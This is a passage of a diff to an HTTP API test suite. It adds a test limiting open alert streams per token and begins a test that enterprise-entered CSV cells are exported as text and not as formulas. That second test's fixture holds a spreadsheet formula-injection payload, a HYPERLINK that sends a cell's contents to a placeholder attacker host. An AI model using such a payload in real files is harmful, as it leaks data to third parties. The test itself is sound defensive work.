@@ -154,6 +154,27 @@ describe('HTTP API', () => {
     expect(r.text).toContain('测试化工有限公司');
   });
 
+  it('holds at most 50 live streams open for one token: the next is answered 429, and a closed one frees its place', async () => {
+    const streams = [];
+    for (let i = 0; i < 50; i++) streams.push(await followStream(app, 'token-mall'));
+    const url = `http://127.0.0.1:${app.ports.http}/api/alerts/stream?token=token-mall`;
+    const refused = await fetch(url);
+    expect(refused.status).toBe(429);
+    expect(await refused.json()).toMatchObject({ error: 'RATE_LIMITED', message: expect.stringContaining('50') });
+    // another token is served meanwhile
+    const other = await followStream(app, 'token-chem');
+    streams.pop()!.close();
+    const again = await waitFor(async () => {
+      const ctrl = new AbortController();
+      const r = await fetch(url, { signal: ctrl.signal });
+      if (r.status === 200) return ctrl;
+      await r.body?.cancel();
+      return null;
+    }, 5000, 'a place freed');
+    again.abort();
+    for (const s of [...streams, other]) s.close();
+  });
+
   it("plants no formula in a regulator's CSV: a cell an enterprise wrote that starts with = + - @ goes out as text", async () => {
     const chem = apiClient(app, 'token-chem');
     const formula = '=HYPERLINK("http://evil.example/?d="&A2,"详情")';
